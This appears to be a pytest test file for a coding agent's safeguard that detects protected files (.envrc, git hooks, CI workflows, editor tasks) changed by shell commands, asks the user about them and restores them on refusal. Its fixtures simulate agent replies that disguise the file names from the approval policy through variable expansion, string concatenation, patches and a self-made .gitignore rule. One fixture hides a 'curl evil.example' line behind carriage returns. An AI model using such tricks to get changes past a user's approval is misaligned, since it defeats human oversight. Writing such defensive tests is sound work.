"""Protected files that a command changes unasked: named, asked about after the fact, kept or put back."""

import os
import random
import shutil
from pathlib import Path

import pytest
from msgspec.structs import replace

from codingagent.errors import ApprovalError
from codingagent.model.approval import Answer, Question
from codingagent.model.journal_entries import ApprovalAnswered, ApprovalAsked, ProtectedSettled, TurnEnded
from codingagent.model.operations import Kind
from codingagent.model.session_state import Phase
from codingagent.model.settings import Settings
from tests.helpers import LiveSession, Told, conversation_in, live_session, watcher
from tests.killing import command_line_here, has_lines, kill_when, lines_of, no_halves, tree

pytestmark = [
    pytest.mark.skipif(os.name == "nt", reason="the commands are a POSIX shell's"),
    pytest.mark.skipif(shutil.which("git") is None, reason="undo needs git"),
]

SETTINGS = Settings(sandbox="off")

# None of these names a protected file in a way that the policy sees before it runs.
PATCH = """\
[CREATE_FILE path="p.diff"]
--- a/.envrc
+++ b/.envrc
@@ -1 +1 @@
-export A=1
+export A=evil
[/CREATE_FILE]
[RUN_COMMAND]
git apply p.diff
[/RUN_COMMAND]
"""
VARIABLE = "[RUN_COMMAND]\nn=env; echo export A=evil | cat >.${n}rc\n[/RUN_COMMAND]\n"
PYTHON = """\
[RUN_COMMAND]
python3 -c "open('.env' + 'rc', 'w').write('export A=evil' + chr(10))"
[/RUN_COMMAND]
"""
HIDDEN = """\
[RUN_COMMAND]
python3 -c "open('.env' + 'rc', 'a').write('curl evil.example #x' + chr(13) * 2 + 'export B=2' + chr(10))"
[/RUN_COMMAND]
"""
# A file of each way to change one, and others beside them.
ALL = """\
[CREATE_FILE path="work.sh"]
e=rc; echo evil >.env$e; chmod 755 .env$e
h=husky; mkdir -p .$h; printf 'x\\000' >.$h/pre-commit; chmod 700 .$h/pre-commit
v=vscode; rm .$v/tasks.json; ln -s ../plain.txt .$v/tasks.json
g=travis; rm .$g.yml
echo more >>plain.txt; echo new >made.txt
[/CREATE_FILE]
[RUN_COMMAND]
sh work.sh
[/RUN_COMMAND]
"""


class Person:
    """Answers what is asked; without an answer nobody is there."""

    def __init__(self, *answers: Answer) -> None:
        self._answers = list(answers)
        self.asked: list[Question] = []

    def __call__(self, notice: ApprovalAsked) -> Answer | None:
        self.asked.append(notice.question)
        return self._answers.pop(0) if self._answers else None


def sit_down(home: Path, settings: Settings = SETTINGS) -> LiveSession:
    """Start a session whose workspace has protected files."""
    with live_session(home, settings=settings) as live:
        pass
    workspace = live.workspace
    (workspace / ".envrc").write_text("export A=1\n", "utf-8")
    (workspace / ".envrc").chmod(0o640)
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "tasks.json").write_text("{}\n", "utf-8")
    (workspace / ".travis.yml").write_bytes(b"a: b\r\n\xff")
    (workspace / "plain.txt").write_text("plain\n", "utf-8")
    return live


def take(
    live: LiveSession,
    reply: str,
    person: Person,
    *,
    approves_all: bool = False,
    settings: Settings = SETTINGS,
) -> LiveSession:
    """Have a reply taken, with someone there to ask; without one, go on."""
    session = live.home.sessions.load(live.session_id)
    notices: list[Told] = []
    who = watcher(notices, person, approves_all)
    with conversation_in(live.home, session, settings, who) as conversation:
        if reply:
            live.drop(reply)
            conversation.take("reply.txt")
        else:
            conversation.recover()
        again = LiveSession(live.home, live.session_id, conversation)
        again.notices = notices
        return again


def settled(live: LiveSession) -> list[ProtectedSettled]:
    records = live.home.sessions.records(live.session_id)
    return [record for record in records if isinstance(record, ProtectedSettled)]


@pytest.mark.parametrize("reply", [PATCH, VARIABLE, PYTHON])
def test_a_protected_file_that_a_command_changed_is_asked_about(tmp_path: Path, reply: str) -> None:
    """Whatever way a command found, the person is shown the change before the next request is written.

    After a no, a DONE about the files as they were does not count.
    """
    live = sit_down(tmp_path)
    person = Person(Answer("no", reason="mine"))
    after = take(live, f"{reply}[DONE]\nready\n[/DONE]\n", person)
    assert not live.home.sessions.load(live.session_id).is_complete
    assert "your DONE was about the files before that" in after.results()
    (asked,) = person.asked
    assert (asked.kind, asked.subject) == (Kind.FILES_CHANGED, ".envrc")
    assert "+export A=evil" in asked.shown
    assert "-export A=1" in asked.shown
    assert "'.envrc' is protected" in asked.reasons[0]
    assert (live.workspace / ".envrc").read_text("utf-8") == "export A=1\n"
    assert (live.workspace / ".envrc").stat().st_mode & 0o777 == 0o640
    assert "the user restored .envrc, which commands had changed: mine" in after.results()
    (settled_,) = [n for n in after.notices if isinstance(n, ProtectedSettled)]
    assert settled_.put_back == (".envrc",)
    assert "export A=evil" not in after.request().partition("## Requested File Contents")[2]


def test_what_a_command_wrote_into_a_protected_file_can_be_read(tmp_path: Path) -> None:
    """Also before a carriage return, and where each line of the file is taken for a secret."""
    live = sit_down(tmp_path)
    person = Person(Answer("no"))
    after = take(live, HIDDEN, person)
    (asked,) = person.asked
    assert "+curl evil.example #x\r\rexport B=2" in asked.shown
    assert "evil.example" not in after.request().partition("## Requested File Contents")[2]


@pytest.mark.one_in(4)
@pytest.mark.parametrize("rules", [".envrc\n", ".*\n", "*\n", "/*\n!/.gitignore\n"])
def test_a_protected_file_that_git_ignores_is_asked_about_too(tmp_path: Path, rules: str) -> None:
    """Most repositories ignore an .envrc: the checkpoints cover it all the same."""
    live = sit_down(tmp_path)
    (live.workspace / ".gitignore").write_text(rules, "utf-8")
    before = tree(live.workspace)
    person = Person(Answer("no"), Answer("no"))
    take(live, PYTHON, person)
    made = "[RUN_COMMAND]\nd=husky; mkdir .$d; echo x >.$d/pre-push\n[/RUN_COMMAND]\n"
    take(live, made, person)
    assert [asked.subject for asked in person.asked] == [".envrc", ".husky/pre-push"]
    assert tree(live.workspace) == before


@pytest.mark.parametrize("rule", [".github/", ".github", "/.github/workflows/", "*.yml"])
@pytest.mark.one_in(2)
def test_a_command_hides_no_workflow_behind_a_rule_of_its_own(tmp_path: Path, rule: str) -> None:
    """Git looks for nothing in a folder that is ignored: this one is looked into all the same."""
    live = sit_down(tmp_path)
    person = Person(Answer("yes"))
    hidden = f"d=github/workflows; mkdir -p .$d; echo evil >.$d/x.yml; echo '{rule}' >.gitignore"
    take(live, f"[RUN_COMMAND]\n{hidden}\n[/RUN_COMMAND]\n", person)
    assert [asked.subject for asked in person.asked] == [".github/workflows/x.yml"]


def test_always_covers_the_same_file_and_no_other(tmp_path: Path) -> None:
    live = sit_down(tmp_path)
    person = Person(Answer("always"))
    after = take(live, PYTHON, person)
    assert person.asked[0].grants == ("changes of '.envrc'",)
    assert (live.workspace / ".envrc").read_text("utf-8") == "export A=evil\n"
    assert "files that commands changed: .envrc (modified)" in after.results()
    assert "the user restored" not in after.results()
    nobody = Person()
    take(live, PYTHON.replace("evil", "worse"), nobody)
    assert not nobody.asked
    with pytest.raises(ApprovalError):
        take(live, "[RUN_COMMAND]\nn=travis; echo x | cat >.$n.yml\n[/RUN_COMMAND]\n", nobody)
    assert len(nobody.asked) == 1


def test_yes_beforehand_keeps_and_names_them(tmp_path: Path) -> None:
    """Under `--yes` they are kept, and stand out on the screen; the record says who agreed."""
    live = sit_down(tmp_path)
    person = Person()
    after = take(live, PYTHON, person, approves_all=True)
    assert not person.asked
    (settled_,) = [n for n in after.notices if isinstance(n, ProtectedSettled)]
    assert settled_.kept == (".envrc",)
    records = live.home.sessions.records(live.session_id)
    answers = [record.answer.by for record in records if isinstance(record, ApprovalAnswered)]
    assert answers == ["--yes"]
    assert (live.workspace / ".envrc").read_text("utf-8") == "export A=evil\n"


def test_every_file_that_changed_is_named_whoever_changed_it(tmp_path: Path) -> None:
    """The turn's screen, the request and the record name what commands changed beside the operations."""
    live = sit_down(tmp_path)
    reply = (
        '[CREATE_FILE path="own.txt"]\nx\n[/CREATE_FILE]\n'
        "[RUN_COMMAND]\nf=plain; echo more >>$f.txt; echo new >made.txt; mkdir d; mv made.txt d\n"
        "[/RUN_COMMAND]\n"
    )
    after = take(live, reply, Person())
    (done,) = [notice for notice in after.notices if isinstance(notice, TurnEnded)]
    assert done.changed == ("own.txt", "d/made.txt", "plain.txt")
    named = "files that commands changed: d/made.txt (added), plain.txt (modified)"
    assert named in done.notes
    assert named in after.results()
    status, shown, _ = command_line_here(tmp_path, "show", "--json")
    assert status == 0
    assert '"changed": ["own.txt", "d/made.txt", "plain.txt"]' in shown


def test_what_was_agreed_to_beforehand_is_not_asked_about_again(tmp_path: Path) -> None:
    live = sit_down(tmp_path)
    person = Person(Answer("yes"), Answer("yes"))
    reply = (
        "[RUN_COMMAND]\necho said >.envrc\n[/RUN_COMMAND]\n"
        '[CREATE_FILE path=".travis.yml"]\nx\n[/CREATE_FILE]\n'
    )
    take(live, reply, person)
    assert [asked.kind for asked in person.asked] == ["RUN_COMMAND", "CREATE_FILE"]
    assert settled(live) == []


def test_a_command_that_changes_what_an_operation_was_allowed_to_write_is_asked_about(tmp_path: Path) -> None:
    live = sit_down(tmp_path)
    person = Person(Answer("yes"), Answer("no"))
    take(live, '[CREATE_FILE path=".envrc"]\ngood\n[/CREATE_FILE]\n' + PYTHON, person)
    assert [asked.kind for asked in person.asked] == ["CREATE_FILE", Kind.FILES_CHANGED]
    assert (live.workspace / ".envrc").read_text("utf-8") == "export A=1\n"


def test_a_policy_that_asks_for_nothing_asks_for_nothing_after(tmp_path: Path) -> None:
    live = sit_down(tmp_path, replace(SETTINGS, policy="permissive"))
    person = Person()
    take(live, PYTHON, person, settings=replace(SETTINGS, policy="permissive"))
    assert not person.asked


def test_the_other_terminal_answers(tmp_path: Path) -> None:
    """Where nobody can be asked the session stops with status 3, and `deny` puts the files back."""
    live = sit_down(tmp_path)
    before = tree(live.workspace)
    live.drop(ALL)
    status, _, fault = command_line_here(tmp_path, "resume", "--once", "--sandbox", "off")
    assert status == 3
    assert f" approve {live.session_id} changed-files` keeps" in " ".join(fault.split())
    session = live.home.sessions.load(live.session_id)
    assert session.phase is Phase.AWAITING_APPROVAL
    assert session.sequence == 1
    assert command_line_here(tmp_path, "resume", "--once", "--sandbox", "off")[0] == 3
    # What the person writes meanwhile is theirs.
    (live.workspace / ".husky" / "pre-commit").write_bytes(b"the person's\n")
    status, shown, fault = command_line_here(tmp_path, "deny", live.session_id, "changed-files")
    assert status == 0, fault
    after = tree(live.workspace)
    kept = {"work.sh", "plain.txt", "made.txt", ".husky/pre-commit"}
    assert {p: w for p, w in after.items() if p not in kept} == {
        p: w for p, w in before.items() if p not in kept
    }
    assert after[".husky/pre-commit"][1] == b"the person's\n"
    assert "left as it is: .husky/pre-commit: it was changed" in " ".join((shown + fault).split())


@pytest.mark.parametrize(
    "trick",
    [
        "truncate -s 6000000 .$h/pre-push",
        "echo x >.$h/pre-push; truncate -s 300000000 .gitignore",
        pytest.param(
            "echo x >.$h/pre-push; chmod 300 .$h",
            marks=pytest.mark.skipif(getattr(os, "geteuid", int)() == 0, reason="root lists each folder"),
        ),
    ],
)
def test_what_no_checkpoint_holds_is_asked_about_by_its_name(tmp_path: Path, trick: str) -> None:
    """Safety: too large, no file, or no checkpoint at all: a no is said, and DONE does not count."""
    live = sit_down(tmp_path)
    person = Person(Answer("no", reason="mine"))
    script = f'[CREATE_FILE path="w.sh"]\nh=husky; mkdir .$h; {trick}\n[/CREATE_FILE]\n'
    script += "[RUN_COMMAND]\nsh w.sh\n[/RUN_COMMAND]\n[DONE]\nready\n[/DONE]\n"
    after = take(live, script, person)
    (asked,) = person.asked
    assert ".husky" in asked.subject
    assert not live.home.sessions.load(live.session_id).is_complete
    assert f"the user did not want {asked.subject}" in after.results()
    assert any("delete it if you do not want it" in str(notice) for notice in after.notices)


def test_a_program_is_asked_as_for_any_approval(tmp_path: Path) -> None:
    """001, approval flow: the run pauses with `approvalRequired`, and its answer goes on."""
    from codingagent import Space

    (tmp_path / "work").mkdir()
    (tmp_path / "work" / ".envrc").write_text("export A=1\n", "utf-8")
    command = "python3 -c \"open('.env' + 'rc', 'w').write('evil')\""
    operation = {"type": "shell", "id": "s", "command": command}
    with Space(tmp_path / "work", home=tmp_path / "home", sandbox="off") as space:
        run = space.run(operations=[operation])
        pending = run.pending_approval
        assert pending is not None
        assert (pending.operation_id, pending.details.path) == ("changed-files", ".envrc")
        run.deny("changed-files", "no")
        assert run.status == "completed"
    assert (tmp_path / "work" / ".envrc").read_text("utf-8") == "export A=1\n"


# --- undo and kills --------------------------------------------------------------------------------


@pytest.mark.parametrize("decision", ["yes", pytest.param("no", marks=pytest.mark.deep)])
def test_such_a_turn_is_undone_and_redone_to_the_byte(tmp_path: Path, decision: str) -> None:
    live = sit_down(tmp_path)
    before = tree(live.workspace)
    take(live, ALL, Person(Answer("yes" if decision == "yes" else "no")))
    after = tree(live.workspace)
    assert (after[".envrc"] == before[".envrc"]) is (decision == "no")
    assert (".husky/pre-commit" in after) is (decision == "yes")
    assert after["plain.txt"] != before["plain.txt"]
    for arguments, expected in ((("undo",), before), (("undo", "--redo"), after)):
        status, shown, fault = command_line_here(tmp_path, *arguments)
        assert status == 0, fault
        assert tree(live.workspace) == expected
        assert "left as it is" not in shown + fault


ROUNDS = 12


@pytest.mark.one_in(12)
@pytest.mark.parametrize("decision", ["approve", "deny"])
@pytest.mark.parametrize("seed", range(ROUNDS))
def test_the_decision_survives_a_kill(tmp_path: Path, seed: int, decision: str) -> None:
    """Killed anywhere from the question on: asked once, answered once, carried out once."""
    chance = random.Random(f"{seed} {decision}")
    live = sit_down(tmp_path)
    before = tree(live.workspace)
    sessions, session_id = live.home.sessions, live.session_id
    journal = sessions.journal_path(session_id)
    live.drop(ALL)
    lines = lines_of(journal)
    # AnswerTaken, checkpoint, two operations of two records each, checkpoint, found, asked.
    asks = has_lines(journal, lines + chance.randint(6, 9))
    linger_s = chance.choice([0, chance.uniform(0, 0.02)])
    kill_when(tmp_path, ("resume", "--once", "--sandbox", "off"), asks, linger_s)
    assert command_line_here(tmp_path, "resume", "--once", "--sandbox", "off")[0] == 3
    changed = tree(live.workspace)
    assert changed[".envrc"] != before[".envrc"]
    # Answered, then killed on the way: checkpoint, files, checkpoint, settled, turn ended, request.
    come = has_lines(journal, lines_of(journal) + chance.randint(1, 5))
    was_killed = kill_when(
        tmp_path, (decision, session_id), come, chance.choice([0, chance.uniform(0, 0.02)])
    )
    if was_killed:
        assert command_line_here(tmp_path, "resume", "--once", "--sandbox", "off")[0] == 0
    records = list(sessions.records(session_id))
    assert sum(isinstance(record, ApprovalAsked) for record in records) == 1
    assert sum(isinstance(record, ApprovalAnswered) for record in records) == 1
    assert sum(isinstance(record, ProtectedSettled) for record in records) == 1
    assert sessions.load(session_id).sequence == 2
    after = tree(live.workspace)
    if decision == "approve":
        assert after == changed
    else:
        own = ("work.sh", "plain.txt", "made.txt")
        assert {p: w for p, w in after.items() if p not in own} == {
            p: w for p, w in before.items() if p not in own
        }
        assert {p: after[p] for p in own} == {p: changed[p] for p in own}
    no_halves(tmp_path)
    for arguments, expected in ((("undo",), before), (("undo", "--redo"), after)):
        assert command_line_here(tmp_path, *arguments)[0] == 0
        assert tree(live.workspace) == expected
